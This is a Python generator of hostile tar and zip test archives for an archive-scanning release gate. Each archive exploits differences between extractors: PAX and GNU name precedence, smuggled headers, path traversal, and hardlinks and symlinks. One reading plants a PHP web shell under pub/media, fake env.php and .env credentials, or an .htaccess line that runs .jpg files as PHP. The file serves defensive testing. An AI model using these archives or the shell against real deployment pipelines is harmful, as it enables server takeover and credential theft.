#!/usr/bin/env python3
"""Hostile release packages for release-gate's archive-differential tests.

Every case is one archive that two extractors (or an extractor and the gate) read
differently: one reading puts a web shell under ``pub/media``, an ``app/etc/env.php``,
a ``.env``, a world-writable mode or an escaping symlink on disk, the other does not.

    python3 gen_cases.py OUTDIR            # writes OUTDIR/<id>.tar|.zip and OUTDIR/cases.json
    python3 gen_cases.py OUTDIR --only t-pax-two-x,z-host-00
    RG_ESCAPE_DIR=/tmp/x/escape python3 gen_cases.py OUTDIR   # where absolute names point

``cases.json`` lists, per case: ``id``, ``format`` (tar or zip), ``file``, ``description``,
``readings`` (for each way of reading the archive that matters, the path and content it
writes) and ``ambiguous``: whether extractors interpret the bytes differently (another
name source, type, framing or content), which release-gate must report as an
``ambiguous-archive`` finding; ``false`` where they differ only by policy (one strips a
leading ``/`` or refuses ``..`` where another follows it: those names have findings of
their own).

Every absolute name and absolute link target of a case points under ``RG_ESCAPE_DIR``
(default ``/tmp/rg-escape``): an extractor that honours one (Python's tarfile without a
filter does) writes there, so a test that sets it inside its own temporary folder never
lets anything land elsewhere on the host.

Standard library only. The archives are built byte by byte (tarfile and zipfile refuse
to write most of them); the builders below take every field as an argument so a case
states exactly which field lies.
"""

from __future__ import annotations

import argparse
import json
import os
import struct
import sys
import zlib
from dataclasses import dataclass, field
from typing import Callable

# --------------------------------------------------------------------------------------
# Payloads. Each is recognisable in a manifest by its first bytes.

SHELL = b"<?php system($_GET['c']); /* rg-shell */ ?>\n"
ENV_PHP = (
    b"<?php return ['db' => ['connection' => ['default' => ['password' => 'rg-prod-password']]],"
    b" 'crypt' => ['key' => 'rg0123456789abcdef0123456789abcd']];\n"
)
DOTENV = b"DB_PASSWORD=rg-prod-password\nAPP_KEY=base64:cmctcHJvZC1rZXktMDEyMzQ1Njc4OWFiY2RlZg==\n"
HTACCESS = b"AddType application/x-httpd-php .jpg\n"
BENIGN = b"rg benign readme\n"
BENIGN2 = b"rg benign second file\n"

# Every absolute name and absolute link target of a case points here (see the module's
# documentation): a test sets it inside its own temporary folder.
ESCAPE_DIR = os.environ.get("RG_ESCAPE_DIR", "/tmp/rg-escape").rstrip("/")
ESCAPE_ROOTS = [ESCAPE_DIR]

# --------------------------------------------------------------------------------------
# Tar building blocks

BLOCK = 512
EOF = b"\0" * (2 * BLOCK)
MAGIC = {
    "posix": b"ustar\x0000",  # POSIX ustar: magic "ustar\0", version "00"
    "gnu": b"ustar  \x00",  # old GNU: magic "ustar ", version " \0"
    "v7": b"\0" * 8,  # V7: no magic
}


def _octal(value: int, width: int) -> bytes:
    """A numeric field: zero-padded octal digits and a terminating NUL."""
    return b"%0*o\0" % (width - 1, value)


def base256(value: int, width: int) -> bytes:
    """A numeric field in GNU base-256: high bit of the first byte set, big-endian value."""
    raw = value.to_bytes(width, "big")
    return bytes([raw[0] | 0x80]) + raw[1:]


def _as_bytes(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode()


def tar_header(
    name: str | bytes,
    *,
    size: int = 0,
    typeflag: bytes = b"0",
    mode: int = 0o644,
    uid: int = 0,
    gid: int = 0,
    mtime: int = 1_700_000_000,
    linkname: str | bytes = b"",
    fmt: str = "posix",
    prefix: str | bytes = b"",
    devmajor: int = 0,
    devminor: int = 0,
    size_field: bytes | None = None,
    checksum: str = "unsigned",
    patch: dict[int, bytes] | None = None,
) -> bytes:
    """One 512-byte header.

    ``size_field`` replaces the 12 bytes of the size (base-256, garbage); ``patch`` writes
    raw bytes at offsets (GNU sparse maps, odd magics); ``checksum`` is ``unsigned`` (the
    standard), ``signed`` (what some old tars computed: bytes as signed chars) or ``bad``.
    Fields longer than their slot are cut, never rejected: that is the point.
    """
    block = bytearray(BLOCK)

    def put(offset: int, width: int, value: bytes) -> None:
        value = value[:width]
        block[offset : offset + len(value)] = value

    put(0, 100, _as_bytes(name))
    put(100, 8, _octal(mode, 8))
    put(108, 8, _octal(uid, 8))
    put(116, 8, _octal(gid, 8))
    put(124, 12, size_field if size_field is not None else _octal(size, 12))
    put(136, 12, _octal(mtime, 12))
    put(156, 1, typeflag)
    put(157, 100, _as_bytes(linkname))
    put(257, 8, MAGIC[fmt])
    if fmt != "v7":
        put(265, 32, b"root")
        put(297, 32, b"root")
        put(329, 8, _octal(devmajor, 8))
        put(337, 8, _octal(devminor, 8))
    if prefix:
        put(345, 155, _as_bytes(prefix))
    for offset, raw in (patch or {}).items():
        block[offset : offset + len(raw)] = raw
    block[148:156] = b" " * 8  # the checksum counts its own field as spaces
    if checksum == "signed":
        total = sum(b - 256 if b > 127 else b for b in block)
    else:
        total = sum(block)
    if checksum == "bad":
        total += 1
    block[148:156] = b"%06o\0 " % (total & 0o777777)
    return bytes(block)


def padded(data: bytes) -> bytes:
    """Content followed by NULs up to the next block boundary."""
    return data + b"\0" * (-len(data) % BLOCK)


def member(name: str | bytes, data: bytes = b"", **header) -> bytes:
    """A header whose size is the content's, then the padded content."""
    return tar_header(name, size=len(data), **header) + padded(data)


def pax_record(key: str, value: str | bytes) -> bytes:
    """One ``<length> <key>=<value>\\n`` record; the length counts itself."""
    body = b" " + key.encode() + b"=" + _as_bytes(value) + b"\n"
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length += 1
    return str(length).encode() + body


def pax(records: list[tuple[str, str | bytes]], *, typeflag: bytes = b"x", name: str = "PaxHeaders/entry") -> bytes:
    """An extended header (``x`` local, ``g`` global) with its records."""
    data = b"".join(pax_record(k, v) for k, v in records)
    return member(name, data, typeflag=typeflag)


def gnu_long(value: str | bytes, typeflag: bytes = b"L") -> bytes:
    """A GNU long name (``L``) or long link (``K``) record."""
    return member("././@LongLink", _as_bytes(value) + b"\0", typeflag=typeflag, fmt="gnu")


def smuggle(special: Callable[[int], bytes]) -> bytes:
    """Two streams in one: a header with a size of 512, then a block that is either that
    entry's data or the next header.

    Read as data (skipped), the next header is ``assets/notes.txt``: inert text (that
    happens to hold PHP code). Read as a header, the block is ``pub/media/a.php``, whose
    data swallows the notes' header and content: a file that starts with header bytes
    and ends with the code (PHP prints the leading bytes and runs the ``<?php`` block),
    a live shell under pub/media that the data-reading never sees.
    """
    hidden_b = member("assets/notes.txt", SHELL)
    hidden_a = tar_header("pub/media/a.php", size=len(hidden_b))
    return special(BLOCK) + hidden_a + hidden_b + member("README.txt", BENIGN) + EOF


# --------------------------------------------------------------------------------------
# Zip building blocks

DOS_TIME, DOS_DATE = 0x6000, 0x5821  # 2024-01-01 12:00
S_IFREG, S_IFDIR, S_IFLNK = 0o100000, 0o040000, 0o120000
HOST_NAMES = {
    0: "MS-DOS/FAT", 1: "Amiga", 2: "OpenVMS", 3: "Unix", 4: "VM/CMS", 5: "Atari ST",
    6: "OS/2 HPFS", 7: "Macintosh", 8: "Z-System", 9: "CP/M", 10: "Windows NTFS", 11: "MVS",
    12: "VSE", 13: "Acorn RISC OS", 14: "VFAT", 15: "alternate MVS", 16: "BeOS", 17: "Tandem",
    18: "OS/400", 19: "OS X (Darwin)", 30: "AtheOS/Syllable",
}


@dataclass
class Z:
    """One zip entry, with every field that a case may want to make lie.

    ``name`` is the central directory's name; ``local_name`` (default: the same) the
    local header's. ``mode`` is a Unix st_mode for the high 16 bits of the external
    attributes, ``dos`` the low byte (0x10 directory, 0x01 read-only). ``host`` is the
    version-made-by host byte. Sizes and CRC default to the real ones and can be
    overridden separately in the local header (``local_*``) and the central one.
    """

    name: str | bytes
    data: bytes = b""
    method: int = 0
    host: int = 3
    made_version: int = 30
    mode: int | None = S_IFREG | 0o644
    dos: int = 0
    flags: int = 0
    local_name: str | bytes | None = None
    extra_local: bytes = b""
    extra_central: bytes = b""
    crc: int | None = None
    csize: int | None = None
    usize: int | None = None
    local_crc: int | None = None
    local_csize: int | None = None
    local_usize: int | None = None
    local_method: int | None = None
    version_needed: int = 20
    in_central: bool = True
    offset_delta: int = 0  # added to the local header offset the central entry records

    def payload(self) -> bytes:
        method = self.local_method if self.local_method is not None else self.method
        if method == 8:
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            return compressor.compress(self.data) + compressor.flush()
        return self.data

    def ext_attr(self) -> int:
        return ((self.mode or 0) << 16) | self.dos


def _b(name: str | bytes) -> bytes:
    return name if isinstance(name, bytes) else name.encode()


def local_header(e: Z, stored: bytes) -> bytes:
    name = _b(e.local_name if e.local_name is not None else e.name)
    crc = zlib.crc32(e.data)
    return struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, e.version_needed, e.flags,
        e.local_method if e.local_method is not None else e.method, DOS_TIME, DOS_DATE,
        e.local_crc if e.local_crc is not None else crc,
        e.local_csize if e.local_csize is not None else len(stored),
        e.local_usize if e.local_usize is not None else len(e.data),
        len(name), len(e.extra_local),
    ) + name + e.extra_local


def central_header(e: Z, stored: bytes, offset: int) -> bytes:
    name = _b(e.name)
    return struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, (e.host << 8) | e.made_version, e.version_needed,
        e.flags, e.method, DOS_TIME, DOS_DATE,
        e.crc if e.crc is not None else zlib.crc32(e.data),
        e.csize if e.csize is not None else len(stored),
        e.usize if e.usize is not None else len(e.data),
        len(name), len(e.extra_central), 0, 0, 0, e.ext_attr(), offset + e.offset_delta,
    ) + name + e.extra_central


def eocd(count: int, cd_size: int, cd_offset: int, comment: bytes = b"", *, count_total: int | None = None) -> bytes:
    """The end-of-central-directory record."""
    return struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count, count if count_total is None else count_total,
        cd_size, cd_offset, len(comment),
    ) + comment


@dataclass
class ZipParts:
    """A zip cut into its pieces, so a case can reorder, repeat or patch them."""

    locals_: bytes
    central: bytes
    count: int
    base: int  # where the local headers start in the final file

    def eocd(self, comment: bytes = b"", **kw) -> bytes:
        return eocd(self.count, len(self.central), self.base + len(self.locals_), comment, **kw)

    def whole(self, comment: bytes = b"") -> bytes:
        return self.locals_ + self.central + self.eocd(comment)


def zip_parts(entries: list[Z], base: int = 0) -> ZipParts:
    """Local headers + data, and the central directory, with offsets counted from ``base``."""
    locals_, central, count = bytearray(), bytearray(), 0
    for e in entries:
        stored = e.payload()
        offset = base + len(locals_)
        locals_ += local_header(e, stored) + stored
        if e.in_central:
            central += central_header(e, stored, offset)
            count += 1
    return ZipParts(bytes(locals_), bytes(central), count, base)


def make_zip(entries: list[Z], *, prepend: bytes = b"", append: bytes = b"", comment: bytes = b"", absolute: bool = True) -> bytes:
    """A whole zip. ``prepend`` bytes shift it; with ``absolute`` the offsets count from
    the start of the file (as ``zip -A`` fixes them), without from the start of the zip."""
    parts = zip_parts(entries, base=len(prepend) if absolute else 0)
    return prepend + parts.whole(comment) + append


def unicode_path_extra(unicode_name: str, for_name: str | bytes, *, crc: int | None = None) -> bytes:
    """Info-ZIP Unicode Path extra field (0x7075): version 1, CRC-32 of the name it
    replaces, then the UTF-8 name. Readers are meant to use it only when the CRC matches."""
    body = struct.pack("<BI", 1, zlib.crc32(_b(for_name)) if crc is None else crc) + unicode_name.encode()
    return struct.pack("<HH", 0x7075, len(body)) + body


def zip64_extra(*values: int) -> bytes:
    body = b"".join(struct.pack("<Q", v) for v in values)
    return struct.pack("<HH", 0x0001, len(body)) + body


# --------------------------------------------------------------------------------------
# The case registry

@dataclass
class Case:
    id: str
    format: str
    description: str
    readings: dict[str, str]
    build: Callable[[], bytes]
    tags: list[str] = field(default_factory=list)


CASES: list[Case] = []


def case(id: str, fmt: str, description: str, readings: dict[str, str] | None = None, tags: list[str] | None = None):
    """Register a builder. ``readings`` maps a reading (who reads it that way) to what it writes."""

    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(id, fmt, description, readings or {}, build, tags or []))
        return build

    return register


# ======================================================================================
# TAR: data after entries that are not regular files

SMUGGLE_READINGS = {
    "data follows the entry (skip 512)": "assets/notes.txt = PHP code in a text file (inert)",
    "no data (next block is a header)": "pub/media/a.php = the notes' header bytes + shell (runs as PHP)",
}


def _smuggle_case(id: str, what: str, special: Callable[[int], bytes]) -> None:
    case(id, "tar", f"{what} with a size field of 512: its 'data' is a header to readers that give it none",
         SMUGGLE_READINGS, ["data-after-special"])(lambda: smuggle(special))


_smuggle_case("t-data-symlink", "symlink pub/link -> README.txt",
              lambda n: tar_header("pub/link", size=n, typeflag=b"2", linkname="README.txt", mode=0o777))
_smuggle_case("t-data-fifo", "FIFO var/fifo", lambda n: tar_header("var/fifo", size=n, typeflag=b"6"))
_smuggle_case("t-data-chardev", "character device var/null (1,3)",
              lambda n: tar_header("var/null", size=n, typeflag=b"3", devmajor=1, devminor=3))
_smuggle_case("t-data-blockdev", "block device var/sda (8,0)",
              lambda n: tar_header("var/sda", size=n, typeflag=b"4", devmajor=8, devminor=0))
_smuggle_case("t-data-dir", "directory (typeflag 5) pub/media/",
              lambda n: tar_header("pub/media/", size=n, typeflag=b"5", mode=0o755))
_smuggle_case("t-data-reg-slash", "regular file (typeflag '0') whose name ends in '/' (pub/media/)",
              lambda n: tar_header("pub/media/", size=n, typeflag=b"0", mode=0o755))
_smuggle_case("t-data-areg-slash", "old regular file (typeflag NUL) whose name ends in '/' (pub/media/)",
              lambda n: tar_header("pub/media/", size=n, typeflag=b"\0", mode=0o755))
_smuggle_case("t-data-hardlink", "hardlink pub/hl -> README.txt",
              lambda n: member("README.txt", BENIGN) + tar_header("pub/hl", size=n, typeflag=b"1", linkname="README.txt"))
_smuggle_case("t-data-dumpdir", "GNU dump directory (typeflag D) pub/media",
              lambda n: tar_header("pub/media", size=n, typeflag=b"D", fmt="gnu", mode=0o755))
_smuggle_case("t-data-volume", "GNU volume label (typeflag V)",
              lambda n: tar_header("RG-VOLUME", size=n, typeflag=b"V", fmt="gnu"))
_smuggle_case("t-data-pax-empty", "PAX extended header whose records are followed by a whole smuggled block",
              lambda n: tar_header("PaxHeaders/x", size=n, typeflag=b"x"))


# ======================================================================================
# TAR: PAX and GNU name precedence

@case("t-pax-two-x", "tar", "two PAX 'x' headers in a row, the first naming assets/logo.txt, the second pub/media/x.php, before a file stored as assets/logo.txt",
      {"last x wins (GNU tar, bsdtar, gate)": "pub/media/x.php = shell", "first x wins (Python)": "assets/logo.txt = shell", "PAX path ignored (PharData)": "assets/logo.txt = shell"}, ["pax"])
def build_t_pax_two_x() -> bytes:
    return (pax([("path", "assets/logo.txt")]) + pax([("path", "pub/media/x.php")])
            + member("assets/logo.txt", SHELL) + EOF)


@case("t-pax-two-x-rev", "tar", "two PAX 'x' headers in a row, the first naming pub/media/x.php, the second assets/logo.txt",
      {"first x wins (Python)": "pub/media/x.php = shell", "last x wins (GNU tar, bsdtar, gate)": "assets/logo.txt = shell"}, ["pax"])
def build_t_pax_two_x_rev() -> bytes:
    return (pax([("path", "pub/media/x.php")]) + pax([("path", "assets/logo.txt")])
            + member("assets/logo.txt", SHELL) + EOF)


@case("t-pax-dup-key", "tar", "one PAX header with two path records: pub/media/x.php then assets/logo.txt",
      {"first record wins": "pub/media/x.php = shell", "last record wins": "assets/logo.txt = shell"}, ["pax"])
def build_t_pax_dup_key() -> bytes:
    return pax([("path", "pub/media/x.php"), ("path", "assets/logo.txt")]) + member("assets/logo.txt", SHELL) + EOF


@case("t-pax-global-path", "tar", "a global 'g' header with path=pub/media/x.php, then a plain ustar file assets/logo.txt",
      {"global path applies (GNU tar, Python, gate)": "pub/media/x.php = shell", "global path ignored (bsdtar, PharData)": "assets/logo.txt = shell"}, ["pax"])
def build_t_pax_global_path() -> bytes:
    return pax([("path", "pub/media/x.php")], typeflag=b"g", name="GlobalHead") + member("assets/logo.txt", SHELL) + EOF


@case("t-pax-global-path-rev", "tar", "a global 'g' header with path=assets/logo.txt, then a plain ustar file pub/media/x.php",
      {"global path applies (GNU tar, Python, gate)": "assets/logo.txt = shell", "global path ignored (bsdtar, PharData)": "pub/media/x.php = shell"}, ["pax"])
def build_t_pax_global_path_rev() -> bytes:
    return pax([("path", "assets/logo.txt")], typeflag=b"g", name="GlobalHead") + member("pub/media/x.php", SHELL) + EOF


@case("t-pax-global-path-local", "tar", "a global header with path=pub/media/x.php, then a local 'x' header with only an mtime, then assets/logo.txt",
      {"global path applies (GNU tar, Python, gate)": "pub/media/x.php = shell", "global path ignored (bsdtar, PharData)": "assets/logo.txt = shell"}, ["pax"])
def build_t_pax_global_path_local() -> bytes:
    return (pax([("path", "pub/media/x.php")], typeflag=b"g", name="GlobalHead")
            + pax([("mtime", "1700000000")]) + member("assets/logo.txt", SHELL) + EOF)


@case("t-pax-empty-path", "tar", "a PAX record 'path=' with an empty value before a file stored as pub/media/x.php",
      {"empty value deletes the keyword (bsdtar, PharData)": "pub/media/x.php = shell", "empty value is the name (gate: '.'; GNU tar, Python: error)": "nothing"}, ["pax"])
def build_t_pax_empty_path() -> bytes:
    return pax([("path", "")]) + member("pub/media/x.php", SHELL) + EOF


@case("t-pax-path-nul", "tar", "PAX path 'pub/media/x.php<NUL>.txt': C extractors stop at the NUL",
      {"C string": "pub/media/x.php = shell", "whole value": "'pub/media/x.php\\0.txt' (Python: error)"}, ["pax", "nul"])
def build_t_pax_path_nul() -> bytes:
    return pax([("path", b"pub/media/x.php\0.txt")]) + member("assets/logo.txt", SHELL) + EOF


@case("t-pax-sparse-name", "tar", "PAX GNU.sparse.name=pub/media/x.php with path=assets/logo.txt and no sparse map",
      {"GNU.sparse.name renames (GNU tar, bsdtar, Python)": "pub/media/x.php = shell", "path (PharData, gate)": "assets/logo.txt = shell"}, ["pax", "sparse"])
def build_t_pax_sparse_name() -> bytes:
    return pax([("path", "assets/logo.txt"), ("GNU.sparse.name", "pub/media/x.php")]) + member("assets/logo.txt", SHELL) + EOF


@case("t-pax-sparse-10", "tar", "a PAX 1.0 sparse file: GNU.sparse.name=pub/media/x.php, the map in the data, ustar name assets/logo.txt",
      {"sparse 1.0 understood": "pub/media/x.php = shell (map stripped)",
       "sparse ignored": "assets/logo.txt (or GNUSparseFile.0/...) = '1\\n0\\n<n>\\n' + NULs + shell"}, ["pax", "sparse"])
def build_t_pax_sparse_10() -> bytes:
    sparse_map = padded(b"1\n0\n%d\n" % len(SHELL))
    return (pax([("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"), ("GNU.sparse.name", "pub/media/x.php"),
                 ("GNU.sparse.realsize", str(len(SHELL)))])
            + member("assets/logo.txt", sparse_map + SHELL) + EOF)


@case("t-pax-sparse-01", "tar", "a PAX 0.1 sparse file: GNU.sparse.map=0,<n>, GNU.sparse.name=pub/media/x.php, path assets/logo.txt",
      {"sparse 0.1 understood": "pub/media/x.php = shell", "sparse ignored": "assets/logo.txt = shell"}, ["pax", "sparse"])
def build_t_pax_sparse_01() -> bytes:
    return (pax([("path", "assets/logo.txt"), ("GNU.sparse.size", str(len(SHELL))), ("GNU.sparse.numblocks", "1"),
                 ("GNU.sparse.map", "0,%d" % len(SHELL)), ("GNU.sparse.name", "pub/media/x.php")])
            + member("assets/logo.txt", SHELL) + EOF)


@case("t-pax-then-L", "tar", "a PAX path=assets/logo.txt, then a GNU 'L' long name pub/media/x.php, then the file",
      {"PAX path wins (GNU tar always; bsdtar, Python when x comes first; gate)": "assets/logo.txt = shell", "L wins (PharData always; bsdtar, Python when L comes first)": "pub/media/x.php = shell"}, ["pax", "gnu"])
def build_t_pax_then_L() -> bytes:
    return pax([("path", "assets/logo.txt")]) + gnu_long("pub/media/x.php") + member("assets/logo.txt", SHELL) + EOF


@case("t-L-then-pax", "tar", "a GNU 'L' long name pub/media/x.php, then a PAX path=assets/logo.txt, then the file",
      {"PAX path wins (GNU tar always; bsdtar, Python when x comes first; gate)": "assets/logo.txt = shell", "L wins (PharData always; bsdtar, Python when L comes first)": "pub/media/x.php = shell"}, ["pax", "gnu"])
def build_t_L_then_pax() -> bytes:
    return gnu_long("pub/media/x.php") + pax([("path", "assets/logo.txt")]) + member("assets/logo.txt", SHELL) + EOF


@case("t-two-L", "tar", "two GNU 'L' long names in a row (pub/media/x.php, then assets/logo.txt)",
      {"first L wins (Python)": "pub/media/x.php = shell", "last L wins (GNU tar, bsdtar, gate)": "assets/logo.txt = shell"}, ["gnu"])
def build_t_two_L() -> bytes:
    return gnu_long("pub/media/x.php") + gnu_long("assets/logo.txt") + member("assets/logo.txt", SHELL, fmt="gnu") + EOF


@case("t-L-vs-name", "tar", "a GNU 'L' long name assets/<120 a>.txt for a header whose own name field is pub/media/x.php",
      {"L understood": "assets/aaa….txt = shell", "L ignored": "././@LongLink + pub/media/x.php = shell"}, ["gnu"])
def build_t_L_vs_name() -> bytes:
    return gnu_long("assets/" + "a" * 120 + ".txt") + member("pub/media/x.php", SHELL, fmt="gnu") + EOF


@case("t-L-nul", "tar", "a GNU long name 'pub/media/x.php<NUL>' + 120 x + '.txt' (a NUL inside)",
      {"cut at NUL": "pub/media/x.php = shell", "whole": "pub/media/x.php\\0xxx….txt"}, ["gnu", "nul"])
def build_t_L_nul() -> bytes:
    return gnu_long(b"pub/media/x.php\0" + b"x" * 120 + b".txt") + member("assets/logo.txt", SHELL, fmt="gnu") + EOF


@case("t-prefix-vs-pax", "tar", "ustar prefix+name = pub/media/x.php, PAX path=assets/logo.txt",
      {"PAX (GNU tar, bsdtar, Python, gate)": "assets/logo.txt = shell", "ustar prefix/name (PharData)": "pub/media/x.php = shell"}, ["pax"])
def build_t_prefix_vs_pax() -> bytes:
    return pax([("path", "assets/logo.txt")]) + member("x.php", SHELL, prefix="pub/media") + EOF


@case("t-prefix-gnu-magic", "tar", "GNU magic 'ustar  ' with 'pub/media' in the prefix bytes and name x.php",
      {"prefix used (Python, PharData)": "pub/media/x.php = shell", "prefix ignored (GNU tar, bsdtar, gate)": "x.php = shell"}, ["prefix"])
def build_t_prefix_gnu_magic() -> bytes:
    return member("x.php", SHELL, fmt="gnu", prefix="pub/media") + EOF


@case("t-prefix-ustar-version-blank", "tar", "magic 'ustar\\0' with version '  ' (not '00'), prefix pub/media, name x.php",
      {"prefix used": "pub/media/x.php = shell", "prefix ignored": "x.php = shell"}, ["prefix"])
def build_t_prefix_ustar_version_blank() -> bytes:
    return member("x.php", SHELL, prefix="pub/media", patch={263: b"  "}) + EOF


@case("t-prefix-v7", "tar", "no magic (V7) but 'pub/media' in the prefix bytes, name x.php",
      {"prefix used": "pub/media/x.php = shell", "prefix ignored": "x.php = shell"}, ["prefix"])
def build_t_prefix_v7() -> bytes:
    return member("x.php", SHELL, fmt="v7", prefix="pub/media") + EOF


@case("t-name-100", "tar", "a name of exactly 100 bytes (no NUL) followed by the mode field",
      {"all": "pub/media/xxx….php (100 bytes) = shell"}, ["names"])
def build_t_name_100() -> bytes:
    name = "pub/media/" + "x" * 86 + ".php"
    assert len(name) == 100
    return member(name, SHELL) + EOF


@case("t-name-nul", "tar", "a ustar name 'pub/media/x.php<NUL>.txt'",
      {"all (C string)": "pub/media/x.php = shell"}, ["names", "nul"])
def build_t_name_nul() -> bytes:
    return member(b"pub/media/x.php\0.txt", SHELL) + EOF


@case("t-longname-noext", "tar", "a 150-byte PAX name without an extension under pub/media, plus a GNU long name of 300 bytes",
      {"all": "pub/media/aaa… and pub/media/bbb… (no extension, content a shell)"}, ["names"])
def build_t_longname_noext() -> bytes:
    return (pax([("path", "pub/media/" + "a" * 140)]) + member("placeholder", SHELL)
            + gnu_long("pub/media/" + "b" * 290) + member("placeholder2", SHELL, fmt="gnu") + EOF)


# ======================================================================================
# TAR: typeflags

def _typeflag_case(id: str, flag: bytes, what: str, fmt: str = "posix") -> None:
    case(id, "tar", f"typeflag {flag!r} ({what}) named pub/media/x.php with a shell as content",
         {"written as a regular file": "pub/media/x.php = shell", "special/skipped": "nothing"}, ["typeflag"])(
        lambda: member("pub/media/x.php", SHELL, typeflag=flag, fmt=fmt) + EOF)


_typeflag_case("t-type-7", b"7", "contiguous file")
_typeflag_case("t-type-A", b"A", "unknown letter")
_typeflag_case("t-type-Z", b"Z", "unknown letter")
_typeflag_case("t-type-M", b"M", "GNU multivolume continuation", "gnu")
_typeflag_case("t-type-N", b"N", "old GNU long-name script", "gnu")
_typeflag_case("t-type-V", b"V", "volume label", "gnu")
_typeflag_case("t-type-K", b"K", "GNU long link with nothing after it", "gnu")
_typeflag_case("t-type-I", b"I", "inode metadata (star)")


@case("t-type-S", "tar", "an old-GNU sparse file 'S' pub/media/x.php: map (100, n), real size 100+n, the shell stored",
      {"sparse understood": "pub/media/x.php = 100 NULs + shell", "special/skipped": "nothing"}, ["typeflag", "sparse"])
def build_t_type_S() -> bytes:
    realsize = 100 + len(SHELL)
    patch = {386: _octal(100, 12) + _octal(len(SHELL), 12), 483: _octal(realsize, 12)}
    return tar_header("pub/media/x.php", size=len(SHELL), typeflag=b"S", fmt="gnu", patch=patch) + padded(SHELL) + EOF


# ======================================================================================
# TAR: paths

def _path_case(id: str, name: str | bytes, description: str, payload: bytes = SHELL, lands: str = "pub/media/x.php") -> None:
    case(id, "tar", description, {"normalised": f"{lands} = {'shell' if payload is SHELL else 'env.php'}"}, ["paths"])(
        lambda: member(name, payload) + EOF)


_path_case("t-path-dot", "pub/./media/x.php", "pub/./media/x.php: a '.' component")
_path_case("t-path-dslash", "pub//media/x.php", "pub//media/x.php: an empty component")
_path_case("t-path-dotdot-inner", "pub/tmp/../media/x.php", "pub/tmp/../media/x.php: '..' that stays inside")
_path_case("t-path-dotdot-env", "var/../app/etc/env.php", "var/../app/etc/env.php", ENV_PHP, "app/etc/env.php")
_path_case("t-path-leading-dotdot", "../pub/media/x.php", "../pub/media/x.php: a leading '..' some extractors strip")
_path_case("t-path-absolute", f"{ESCAPE_DIR}/pub/media/x.php", f"{ESCAPE_DIR}/pub/media/x.php: absolute; extractors strip the '/'",
           lands=f"{ESCAPE_DIR.lstrip('/')}/pub/media/x.php")
_path_case("t-path-backslash", "pub\\media\\x.php", "pub\\media\\x.php: backslashes (a literal name on Linux)", lands="pub\\media\\x.php")
_path_case("t-path-dot-slash-mid", "./pub/.//media/./x.php", "./pub/.//media/./x.php")
_path_case("t-path-trailing-dot", "pub/media/x.php/.", "pub/media/x.php/. : a file name ending in '/.'")


@case("t-path-file-slash", "tar", "a regular file 'pub/media/x.php/' (trailing slash, typeflag 0, shell content)",
      {"directory": "pub/media/x.php/ (empty dir)", "file": "pub/media/x.php = shell"}, ["paths"])
def build_t_path_file_slash() -> bytes:
    return member("pub/media/x.php/", SHELL) + EOF


@case("t-path-escape-abs", "tar", f"an absolute name {ESCAPE_DIR}/t-abs.php and a symlink to {ESCAPE_DIR}",
      {"kept absolute (-P)": f"{ESCAPE_DIR}/t-abs.php", "stripped": f"{ESCAPE_DIR.lstrip('/')}/t-abs.php"}, ["paths", "escape"])
def build_t_path_escape_abs() -> bytes:
    return member(f"{ESCAPE_DIR}/t-abs.php", SHELL) + tar_header("esc", typeflag=b"2", linkname=ESCAPE_DIR, mode=0o777) + EOF


# ======================================================================================
# TAR: duplicates and links

@case("t-dup-file", "tar", "pub/media/x.php stored twice: first a shell, then a benign file",
      {"last wins": "pub/media/x.php = benign", "first wins": "pub/media/x.php = shell"}, ["dup"])
def build_t_dup_file() -> bytes:
    return member("pub/media/x.php", SHELL) + member("pub/media/x.php", BENIGN) + EOF


@case("t-dup-dir-file", "tar", "pub/media/x.php first as a directory, then as a file with a shell",
      {"file replaces dir": "pub/media/x.php = shell", "dir kept": "pub/media/x.php/ (dir)"}, ["dup"])
def build_t_dup_dir_file() -> bytes:
    return tar_header("pub/media/x.php/", typeflag=b"5", mode=0o755) + member("pub/media/x.php", SHELL) + EOF


@case("t-hardlink-forward", "tar", "a hardlink pub/media/x.php -> later.txt before later.txt (a shell) exists",
      {"link made later/by copy": "pub/media/x.php = shell", "link fails": "later.txt only"}, ["links"])
def build_t_hardlink_forward() -> bytes:
    return tar_header("pub/media/x.php", typeflag=b"1", linkname="later.txt") + member("later.txt", SHELL) + EOF


@case("t-hardlink-env", "tar", "config/notes.txt holds env.php content; .env and app/etc/env.php are hardlinks to it; pub/media/.htaccess a hardlink to a .txt",
      {"all that link": ".env, app/etc/env.php = env.php content; pub/media/.htaccess = AddType php"}, ["links"])
def build_t_hardlink_env() -> bytes:
    return (member("config/notes.txt", ENV_PHP) + member("config/handlers.txt", HTACCESS)
            + tar_header(".env", typeflag=b"1", linkname="config/notes.txt")
            + tar_header("app/etc/env.php", typeflag=b"1", linkname="config/notes.txt")
            + tar_header("pub/media/.htaccess", typeflag=b"1", linkname="config/handlers.txt") + EOF)


@case("t-hardlink-abs", "tar", f"a hardlink secrets.txt -> {ESCAPE_DIR}/etc/passwd (a file outside the tree; a test creates it)",
      {"link made": "secrets.txt = that file (same inode)", "refused": "nothing"}, ["links", "escape"])
def build_t_hardlink_abs() -> bytes:
    return tar_header("secrets.txt", typeflag=b"1", linkname=f"{ESCAPE_DIR}/etc/passwd") + EOF


@case("t-symlink-dir-env", "tar", "symlink pub/static/cfg -> ../../app/etc, then a file pub/static/cfg/env.php",
      {"writes through the link": "app/etc/env.php = env.php content", "refuses": "pub/static/cfg (symlink) only"}, ["links"])
def build_t_symlink_dir_env() -> bytes:
    return (tar_header("pub/static/cfg", typeflag=b"2", linkname="../../app/etc", mode=0o777)
            + tar_header("app/etc/", typeflag=b"5", mode=0o755)
            + member("pub/static/cfg/env.php", ENV_PHP) + EOF)


@case("t-symlink-dir-shell", "tar", "symlink uploads -> pub/media, then uploads/x.php",
      {"writes through the link": "pub/media/x.php = shell", "refuses": "uploads (symlink)"}, ["links"])
def build_t_symlink_dir_shell() -> bytes:
    return (tar_header("pub/media/", typeflag=b"5", mode=0o755)
            + tar_header("uploads", typeflag=b"2", linkname="pub/media", mode=0o777)
            + member("uploads/x.php", SHELL) + EOF)


